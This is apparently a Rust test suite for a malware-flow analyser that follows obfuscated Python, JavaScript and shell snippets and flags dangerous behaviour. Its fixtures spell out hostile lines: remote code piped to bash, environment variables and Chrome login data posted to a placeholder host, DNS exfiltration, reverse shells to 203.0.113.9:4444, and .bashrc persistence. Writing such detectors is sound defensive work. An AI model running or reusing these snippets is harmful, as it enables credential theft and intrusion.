//! What is followed and folded, over snippets.

use super::event::{Act, Event, When};
use super::flows;
use super::machine::{Machine, Outcome, Reach};
use super::value::Labels;
use crate::parse::script::{Language, read};

fn outcome(language: Language, code: &str) -> Outcome {
    Machine::new(read(language, code), Reach { fuel: 2_000_000 }).run()
}

fn python(code: &str) -> Outcome {
    outcome(Language::Python, code)
}

fn rules(language: Language, code: &str) -> Vec<&'static str> {
    let outcome = outcome(language, code);
    flows::judge(&outcome, false).iter().map(|f| f.rule.id).collect()
}

fn event(outcome: &Outcome, act: Act) -> &Event {
    outcome.events.iter().find(|e| e.act == act).unwrap_or_else(|| panic!("no {act:?} in {:?}", outcome.events))
}

fn subject(outcome: &Outcome, act: Act) -> &str {
    event(outcome, act).subject.as_deref().unwrap_or_default()
}

/// The command that a snippet starts.
fn command(language: Language, code: &str) -> String {
    subject(&outcome(language, code), Act::Run).to_owned()
}

#[test]
fn constants_fold_whatever_they_are_hidden_behind() {
    let cases = [
        "import os; os.system('ec' + 'ho' + ' hi')",
        "import os; os.system(''.join(['ec', 'ho', ' hi']))",
        "import os; os.system('ih ohce'[::-1])",
        "import os; os.system(''.join(chr(c) for c in [101,99,104,111,32,104,105]))",
        "import os; os.system(''.join(map(chr, [101,99,104,111,32,104,105])))",
        "import os, base64; os.system(base64.b64decode('ZWNobyBoaQ==').decode())",
        "import os; os.system(bytes.fromhex('6563686f206869').decode())",
        "import os, codecs; os.system(codecs.decode('rpub uv', 'rot13'))",
        "import os; os.system('%s %s' % ('echo', 'hi'))",
        "import os; os.system('{} {}'.format('echo', 'hi'))",
        "import os; a = 'echo'; os.system(f'{a} hi')",
        "import os; k = 7; os.system(''.join(chr(ord(c) ^ k) for c in 'bdoh\\'on'))",
        "import os; d = {'a': 'echo hi'}; os.system(d['a'])",
        "import os\ndef f(x):\n    return x + ' hi'\nos.system(f('echo'))",
        "import os; (lambda f: f('echo hi'))(os.system)",
        "getattr(__import__('o' + 's'), 'sys' + 'tem')('echo hi')",
        "from os import system as s; s('echo hi')",
        "import os\nclass A:\n    def __init__(self):\n        self.c = 'echo'\n    def go(self):\n        os.system(self.c + ' hi')\nA().go()",
        "import os\nout = ''\nfor c in 'echo hi':\n    out += c\nos.system(out)",
        "import os\ni = 0\nout = ''\nwhile i < 7:\n    out += 'echo hi'[i]\n    i += 1\nos.system(out)",
        "exec('import os; os.system(\"echo hi\")')",
        "import subprocess; subprocess.run('echo hi', shell=True)",
    ];
    for code in cases {
        assert_eq!(command(Language::Python, code), "echo hi", "{code}");
    }
}

#[test]
fn javascript_folds_the_same() {
    let cases = [
        "require('child_process').exec('ec' + 'ho hi')",
        "const { exec: e } = require('child_process'); e(Buffer.from('ZWNobyBoaQ==', 'base64').toString())",
        "const c = require('node:child_process'); c['ex' + 'ec'](atob('ZWNobyBoaQ=='))",
        "require('child_process').exec(['ih', 'ohce'].map(s => s.split('').reverse().join('')).reverse().join(' '))",
        "require('child_process').exec(String.fromCharCode(101, 99, 104, 111, 32, 104, 105))",
        "import { exec } from 'child_process'; const a = `echo`; exec(`${a} hi`)",
        "eval(\"require('child_process').exec('echo hi')\")",
        // A rotated table of strings, as obfuscators make it.
        "var t = ['exec', 'hi', 'child_process', 'echo ']; (function (a, n) { while (--n) { a.push(a.shift()); } })(t, 3);\
         function d(i) { return t[i]; } require(d(0))[d(2)](d(1) + d(3));",
    ];
    for code in cases {
        assert_eq!(command(Language::JavaScript, code), "echo hi", "{code}");
    }
}

#[test]
fn what_encoders_encode_the_folder_decodes() {
    use base64::Engine as _;
    // A simple generator is enough: the point is variety, not randomness.
    let mut seed = 0x2545_f491_4f6c_dd1d_u64;
    let mut next = || {
        seed ^= seed << 13;
        seed ^= seed >> 7;
        seed ^= seed << 17;
        seed
    };
    for _ in 0..200 {
        let text: String = (0..next() % 40 + 1).map(|_| char::from(b'!' + (next() % 90) as u8)).collect();
        let text = text.replace(['\'', '\\', '"', '{', '}', '%', '`', '$'], "x");
        let mut literal = text.clone().into_bytes();
        let mut code = String::new();
        for _ in 0..next() % 3 + 1 {
            match next() % 4 {
                0 => {
                    literal = base64::engine::general_purpose::STANDARD.encode(&literal).into_bytes();
                    code.insert_str(0, "v = base64.b64decode(v)\n");
                }
                1 => {
                    literal = literal.iter().map(|b| format!("{b:02x}")).collect::<String>().into_bytes();
                    code.insert_str(0, "v = bytes.fromhex(v.decode())\n");
                }
                2 => {
                    literal.reverse();
                    code.insert_str(0, "v = v[::-1]\n");
                }
                _ => {
                    let key = (next() % 7 + 1) as u8;
                    literal.iter_mut().for_each(|b| *b ^= key);
                    code.insert_str(0, &format!("v = bytes([b ^ {key} for b in v])\n"));
                }
            }
        }
        let escaped: String = literal.iter().map(|b| format!("\\x{b:02x}")).collect();
        let code = format!("import base64, os\nv = b'{escaped}'\n{code}os.system('run ' + v.decode())\n");
        assert_eq!(command(Language::Python, &code), format!("run {text}"), "{code}");
    }
}

#[test]
fn flows_are_followed_from_end_to_end() {
    let cases: [(&str, Language, &str); 16] = [
        (
            "flow-download-run",
            Language::Python,
            "import requests, os\nopen('/tmp/x','wb').write(requests.get('http://h.invalid/x').content)\nos.system('/tmp/x')",
        ),
        (
            "flow-download-run",
            Language::Python,
            "import urllib.request, subprocess\nurllib.request.urlretrieve('http://h.invalid/x', 'x.bin')\nsubprocess.Popen(['./x.bin'])",
        ),
        ("flow-remote-code", Language::Python, "import requests\nexec(requests.get('http://h.invalid/x').text)"),
        (
            "flow-remote-code",
            Language::JavaScript,
            "require('https').get('https://h.invalid/x', r => { let b = ''; r.on('data', c => b += c); r.on('end', () => eval(b)); })",
        ),
        (
            "flow-remote-code",
            Language::JavaScript,
            "const axios = require('axios'); (async () => { const r = await axios.get('https://h.invalid'); new Function(r.data.x)(); })()",
        ),
        ("flow-remote-code", Language::Shell, "curl -s https://h.invalid/x | bash"),
        (
            "flow-environment-sent",
            Language::Python,
            "import os, requests, json\nrequests.post('https://h.invalid', data=json.dumps(dict(os.environ)))",
        ),
        (
            "flow-environment-sent",
            Language::JavaScript,
            "fetch('https://h.invalid', { method: 'POST', body: JSON.stringify(process.env) })",
        ),
        (
            "flow-identity-sent",
            Language::Python,
            "import socket, getpass, requests\nrequests.get('https://h.invalid', params={'h': socket.gethostname(), 'u': getpass.getuser()})",
        ),
        (
            "flow-dns-exfiltration",
            Language::Python,
            "import socket\nsocket.gethostbyname(socket.gethostname() + '.x.invalid')",
        ),
        (
            "flow-reverse-shell",
            Language::Python,
            "import socket, os, pty\ns = socket.socket()\ns.connect(('203.0.113.9', 4444))\nos.dup2(s.fileno(), 0)\npty.spawn('/bin/sh')",
        ),
        ("flow-reverse-shell", Language::Shell, "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"),
        (
            "flow-hidden-code-acts",
            Language::Python,
            "import base64\nexec(base64.b64decode('aW1wb3J0IG9zO29zLnN5c3RlbSgnaWQnKQ=='))",
        ),
        (
            "flow-decoded-command",
            Language::Python,
            "import base64, os\nos.system(base64.b64decode('ZWNobyBoaSB0aGVyZQ==').decode())",
        ),
        ("flow-persists", Language::Python, "import os\nopen(os.path.expanduser('~/.bashrc'), 'a').write('nohup x &')"),
        (
            "flow-stores-sent",
            Language::Python,
            "import os, requests\nd = open(os.getenv('LOCALAPPDATA') + '\\\\Google\\\\Chrome\\\\User Data\\\\Default\\\\Login Data', 'rb').read()\nrequests.post('https://h.invalid', files={'f': d})",
        ),
    ];
    for (rule, language, code) in cases {
        let rules = rules(language, code);
        assert!(rules.contains(&rule), "{rule} not in {rules:?} for {code}");
    }
}

#[test]
fn capabilities_are_no_flows() {
    let honest: [(Language, &str); 8] = [
        (Language::Python, "import requests\ndef get(url):\n    return requests.get(url).json()"),
        (Language::Python, "import subprocess\ndef git(*args):\n    return subprocess.check_output(['git', *args])"),
        (
            Language::Python,
            "import os, requests\ndef call(q):\n    return requests.post('https://api.h.invalid', headers={'Authorization': os.environ['API_TOKEN']}, json=q)",
        ),
        (
            Language::Python,
            "import base64\nLOGO = base64.b64decode('aGVsbG8gd29ybGQ=')\nopen('logo.png', 'wb').write(LOGO)",
        ),
        (
            Language::Python,
            "import platform, requests\ndef ua():\n    return requests.get('https://h.invalid', headers={'User-Agent': platform.system()})",
        ),
        (
            Language::JavaScript,
            "const cp = require('child_process'); exports.build = () => cp.execSync('node-gyp rebuild')",
        ),
        (Language::JavaScript, "module.exports = (env) => ({ ...process.env, ...env })"),
        (Language::Shell, "set -e\ncd src && make install"),
    ];
    for (language, code) in honest {
        assert!(rules(language, code).is_empty(), "{:?} for {code}", rules(language, code));
    }
}

#[test]
fn when_code_runs_is_told() {
    let at = |code: &str| event(&python(code), Act::Run).when;
    assert_eq!(at("import os; os.system('x')"), When::Load);
    assert_eq!(at("import os\ndef f():\n    os.system('x')"), When::Called);
    assert_eq!(at("import os\nif __name__ == '__main__':\n    os.system('x')"), When::Main);
    let hooked = "import os\nfrom setuptools import setup\nfrom setuptools.command.install import install\n\
        class I(install):\n    def run(self):\n        os.system('x')\nsetup(name='x', cmdclass={'install': I})";
    assert_eq!(at(hooked), When::Install);
}

#[test]
fn conditions_are_kept_with_what_they_guard() {
    let found = python("import os, locale\nif locale.getlocale()[0] == 'xx':\n    os.system('x')");
    assert!(event(&found, Act::Run).given.any(Labels::LOCALE));
    // Both branches of what is not known are gone through.
    let found = python("import os, sys\nif sys.argv[1]:\n    c = 'a'\nelse:\n    c = 'b'\nos.system(c)");
    assert!(matches!(subject(&found, Act::Run), "a" | "b"));
}

#[test]
fn hostile_scripts_end() {
    let doubling = format!("a = 'x'\n{}", "a = a + a\n".repeat(60));
    let nested = format!("{}1{}", "f(".repeat(150), ")".repeat(150));
    let lists = format!("a = [1]\n{}", "a = [a, a, a, a]\n".repeat(40));
    for code in [
        "while True:\n    pass\n",
        "def f():\n    return f() + f()\nf()\n",
        "x = 1\nwhile x:\n    x = x + 1\n",
        "for i in range(10**9):\n    x = 'a' * i\n",
        "x = 'a' * 10**12\ny = x * 10**12\n",
        "exec('exec(x)' * 1000)\n",
        "x = 'exec(x)'\nexec(x)\n",
        doubling.as_str(),
        nested.as_str(),
        lists.as_str(),
        "import os\nfor a in os.environ:\n    for b in os.environ:\n        for c in os.environ:\n            os.system(a + b + c)\n",
    ] {
        let found = python(code);
        assert!(found.events.len() < 100, "{code}");
    }
    for code in [
        "for (;;) {}",
        "function f() { return f() + f() } f()",
        "a = []; a[0] = a; JSON.stringify(a); a.toString()",
        "while (x = y) {}",
    ] {
        let found = outcome(Language::JavaScript, code);
        assert!(found.events.len() < 100, "{code}");
    }
}
